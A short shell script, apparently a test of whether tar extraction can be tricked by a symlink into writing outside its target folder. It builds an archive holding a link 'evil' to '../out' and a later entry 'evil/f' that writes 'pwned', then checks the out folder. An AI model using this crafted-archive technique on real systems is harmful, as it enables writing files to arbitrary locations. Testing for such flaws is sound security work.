cd "$(mktemp -d)" || exit 1
mkdir out; ln -s ../out evil; tar cf x.tar evil; rm evil; mkdir evil; echo pwned > evil/f; tar rf x.tar evil/f; rm -r evil; mkdir o; tar xf x.tar -C o 2>/dev/null; ls out; echo done
